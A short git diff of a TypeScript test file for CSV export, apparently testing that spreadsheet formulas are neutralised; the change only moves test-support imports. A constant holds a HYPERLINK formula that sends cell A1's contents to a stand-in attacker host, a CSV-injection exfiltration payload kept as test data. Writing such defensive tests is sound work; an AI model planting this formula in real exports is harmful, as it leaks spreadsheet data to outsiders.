@@ -1,7 +1,7 @@
 /** Every column of the files, for a platform that sends formulas in every text. */
 
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import { createTestDatabase, type TestDatabase } from '#lib/db/test-database.ts'
+import { createTestDatabase, type TestDatabase } from '#lib/db/test-support/test-database.ts'
 import type { OrganizationId } from '#lib/ids.ts'
 import { DEFAULT_GROUP_QUERY } from '#lib/ledger/query/group-query.ts'
 import { DEFAULT_LINE_QUERY } from '#lib/ledger/query/line-query.ts'
@@ -12,7 +12,7 @@ import { GROUP_KEYS } from '#lib/reconcile/group-keys.ts'
 import { toGroupColumns } from './group-columns.ts'
 import { LINE_COLUMNS } from './line-columns.ts'
 import { CSV_FILES } from './stream-csv.ts'
-import { parseCsvRecords, readAll } from './test-parse-csv.ts'
+import { parseCsvRecords, readAll } from './test-support/test-parse-csv.ts'
 
 const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
 /**
